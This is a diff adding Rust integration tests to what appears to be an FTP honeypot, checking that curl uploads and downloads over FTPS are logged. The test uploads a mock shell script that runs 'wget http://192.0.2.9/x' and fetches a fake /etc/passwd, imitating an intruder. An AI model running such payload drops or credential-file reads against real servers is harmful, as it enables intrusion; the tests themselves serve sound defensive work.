@@ -58,6 +58,60 @@ fn curl_lists_uploads_and_downloads_over_passive_connections() {
 }
 
 #[test]
+fn curl_lists_uploads_and_downloads_inside_tls_with_private_data_connections() {
+    if !installed("curl") {
+        return;
+    }
+    let house = house(OPEN);
+    let file = std::env::temp_dir().join(format!("kizashi-ftps-{}", std::process::id()));
+    let content = b"#!/bin/sh\nwget http://192.0.2.9/x\n".repeat(1_500);
+    std::fs::write(&file, &content).unwrap();
+    let name = file.to_str().unwrap();
+    let account = ["-u", "test:test", "--ssl-reqd", "-k"];
+    assert_eq!(curl(&house, "%2ftmp/x.sh", &[&account[..], &["-T", name]].concat()), "");
+    let listing = curl(&house, "%2fetc/", &account);
+    assert!(listing.contains(" passwd\n") || listing.contains(" passwd\r\n"), "{listing}");
+    for more in [&[][..], &["--tls-max", "1.2"]] {
+        let passwd = curl(&house, "%2fetc/passwd", &[&account[..], more].concat());
+        assert!(passwd.starts_with("root:x:0:0:root:/root:/bin/bash\n"), "{passwd}");
+    }
+    // The control connection alone.
+    let passwd = curl(&house, "%2fetc/passwd", &["-u", "test:test", "--ftp-ssl-control", "-k"]);
+    assert!(passwd.starts_with("root:x:0:0:"), "{passwd}");
+    std::fs::remove_file(file).unwrap();
+    let events = house.close();
+    let told = uploads(&events);
+    assert_eq!((told.len(), &told[0].1), (1, &content));
+    let lines = events.iter().filter_map(|event| match &event.detail {
+        Detail::Command { line, .. } => Some(line.raw().to_owned()),
+        _ => None,
+    });
+    let lines: Vec<String> = lines.collect();
+    assert!(lines.contains(&"AUTH TLS".to_owned()) || lines.contains(&"AUTH SSL".to_owned()));
+    assert!(
+        lines.contains(&"PROT P".to_owned()) && lines.contains(&"PROT C".to_owned()),
+        "{lines:?}"
+    );
+}
+
+#[test]
+fn curl_reads_where_tls_is_there_from_the_first_byte_on() {
+    if !installed("curl") {
+        return;
+    }
+    let house = House::tcp_at(trap_named("ftp").unwrap(), 10_990);
+    let url = format!("ftps://{}/", house.address);
+    let shown = said(
+        "curl",
+        &["-sS", "-k", "--max-time", "60", "-u", "anonymous:a@b", "-Q", "PWD", &url],
+        None,
+    );
+    // Data connections have no port in this house; all before that is done.
+    assert!(!shown.contains("SSL"), "{shown}");
+    assert_eq!(passwords(&house.close()).len(), 1);
+}
+
+#[test]
 fn hydra_finds_the_weak_password_though_the_server_is_slow_to_refuse() {
     if !installed("hydra") {
         return;
